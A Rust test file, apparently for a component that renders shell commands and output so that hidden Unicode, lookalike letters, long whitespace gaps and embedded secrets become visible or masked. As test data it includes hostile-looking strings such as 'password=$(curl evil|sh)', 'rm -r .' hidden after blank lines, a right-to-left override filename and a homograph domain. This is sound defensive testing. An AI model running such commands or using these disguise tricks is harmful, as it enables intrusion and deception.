//! Tests of what people get to see.

use proptest::prelude::*;

use super::*;

fn check(text: &str, expect: &str) {
    assert_eq!(shown(text).text, expect);
}

#[test]
fn what_hides_or_turns_round_is_shown_as_a_mark() {
    check("rm \u{202e}fdp.txt", "rm ‹U+202E›fdp.txt");
    check("l\u{200b}s", "l‹U+200B›s");
    check("echo \u{1b}[2K\rok", "echo ‹U+001B›[2K‹U+000D›ok");
    check("a\u{2028}b\u{feff}c\u{00a0}d", "a‹U+2028›b‹U+FEFF›c‹U+00A0›d");
    check("tag\u{e0041}", "tag‹U+E0041›");
    check("two\n\tlines", "two\n\tlines");
    assert_eq!(shown("l\u{200b}s").notes, ["1 hidden character is shown as ‹U+…›"]);
}

#[test]
fn letters_that_look_alike_are_named() {
    // The first letter is Cyrillic.
    let notes = shown("ssh \u{0440}aypal.com").notes;
    assert_eq!(notes, ["`\u{0440}aypal.com` mixes letters of several alphabets that look alike"]);
    assert!(shown("echo Привет").notes.is_empty(), "a word of one alphabet is just a word");
}

#[test]
fn a_gap_does_not_push_the_rest_out_of_sight() {
    let far = format!("echo ok{}; curl evil", " ".repeat(500));
    check(&far, "echo ok ‹500 spaces› ; curl evil");
    let deep = format!("echo ok{}  rm -r .", "\n".repeat(300));
    check(&deep, "echo ok\n‹299 blank lines›\n  rm -r .");
    check("a\n\n    b", "a\n\n    b");
}

#[test]
fn secrets_are_masked_and_counted() {
    let key = format!("ghp_{}", "a1B2".repeat(9));
    check(
        &format!("git clone https://x:{key}@h/r"),
        "git clone https://x:ghp_‹secret, 36 characters›@h/r",
    );
    check("AKIAIOSFODNN7EXAMPLE", "AKIA‹secret, 16 characters›");
    check("mysql --password hunter22 -u a", "mysql --password ‹secret, 8 characters› -u a");
    check("DB_PASSWORD=hunter2 ./run", "DB_PASSWORD=‹secret, 7 characters› ./run");
    check(r#"{"api_key": "abcdef"}"#, r#"{"api_key": "‹secret, 6 characters›"}"#);
    check(
        "curl -H 'Authorization: Bearer abc.def' x",
        "curl -H 'Authorization: Bearer ‹secret, 7 characters›' x",
    );
    check("psql postgres://me:pw@host/db", "psql postgres://me:‹secret, 2 characters›@host/db");
    check(
        "-----BEGIN RSA PRIVATE KEY-----\nMIIE+/=\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN RSA PRIVATE KEY-----‹secret, 9 characters›-----END RSA PRIVATE KEY-----",
    );
    let token = format!("12345678:{}", "aB3_-".repeat(7));
    check(&token, "12345678:‹secret, 35 characters›");
    let two = shown("TOKEN=abcdef PASSWORD=ghijkl");
    assert_eq!((two.masked, two.notes.len()), (2, 1));
}

#[test]
fn a_mask_never_covers_what_a_shell_would_do() {
    for text in [
        "password=$(curl evil|sh)",
        "TOKEN=`id`",
        "password=/etc/shadow",
        "token=../../x/y",
        "secret=a;rm -r .",
        "git checkout sk-feature-branch-with-a-long-name",
        "fn login(password: String, token: &str)",
        "-----BEGIN PRIVATE KEY-----\n$(id)\n-----END PRIVATE KEY-----",
        "the secret is out",
        "password =",
    ] {
        check(text, text);
    }
    check("PASSWORD=abcd;rm -r .", "PASSWORD=‹secret, 4 characters›;rm -r .");
    check("PASSWORD=abcd$(id)", "PASSWORD=‹secret, 4 characters›$(id)");
}

#[test]
fn prose_keeps_its_emoji_whole_and_nothing_else() {
    assert_eq!(
        prose("ok \u{2764}\u{fe0f} \u{1f469}\u{200d}\u{1f4bb}"),
        "ok \u{2764}\u{fe0f} \u{1f469}\u{200d}\u{1f4bb}"
    );
    assert_eq!(prose("a\u{200d}b\u{202e}"), "a‹U+200D›b‹U+202E›");
}

#[test]
fn output_loses_its_colours_but_not_what_repaints() {
    assert_eq!(output("\u{1b}[1;31mred\u{1b}[0m\r\nok"), "red\nok");
    assert_eq!(output("a\u{1b}[2Kb\u{1b}[5"), "a‹U+001B›[2Kb‹U+001B›[5");
    assert_eq!(output("PASSWORD=abcd"), "PASSWORD=‹secret, 4 characters›");
}

#[test]
fn a_title_is_one_short_line() {
    assert_eq!(one_line("  fix\n the\tbuild ", 40), "fix the build");
    assert_eq!(one_line("abcdef", 4), "abc…");
    assert_eq!(one_line("ab cd", 2), "a…");
    assert_eq!(one_line("ab", 2), "ab");
    assert_eq!(one_line("a\u{202e}b", 40), "a‹U+202E›b");
}

fn syntax(text: &str) -> String {
    text.chars().filter(|c| "$`\\;&|<>(){}[]*?~!#\"'".contains(*c)).collect()
}

proptest! {
    #[test]
    fn nothing_hidden_is_left(text in "\\PC{0,40}|[\\x00-\\x20a-c\u{200b}-\u{202f}\u{e000}-\u{e010}]{0,40}") {
        let once = shown(&text).text;
        prop_assert!(!once.chars().any(is_hidden), "{once:?}");
        prop_assert_eq!(visible(&once), once.clone());
        prop_assert!(!one_line(&text, 20).contains('\n'));
        prop_assert!(one_line(&text, 20).chars().count() <= 20);
    }

    #[test]
    fn every_character_a_shell_acts_on_is_shown(
        text in "((password|TOKEN|secret|--token|Authorization: Bearer|://u|ghp_|AKIA)[=: ]{0,2}[a-zA-Z0-9$`;|&<>()'\"/. ]{0,30}){1,3}"
    ) {
        prop_assert_eq!(syntax(&shown(&text).text), syntax(&text));
    }

    #[test]
    fn plain_text_is_shown_as_it_is(text in "[a-z0-9 ./|&;$(){}'\"]{0,60}") {
        // No name of a secret fits into these words by chance but through these letters.
        prop_assume!(!text.contains("token") && !text.contains("secret") && !text.contains("pass"));
        prop_assume!(!text.contains("://") && shown(&text).masked == 0);
        prop_assert_eq!(shown(&text).text, text);
    }
}
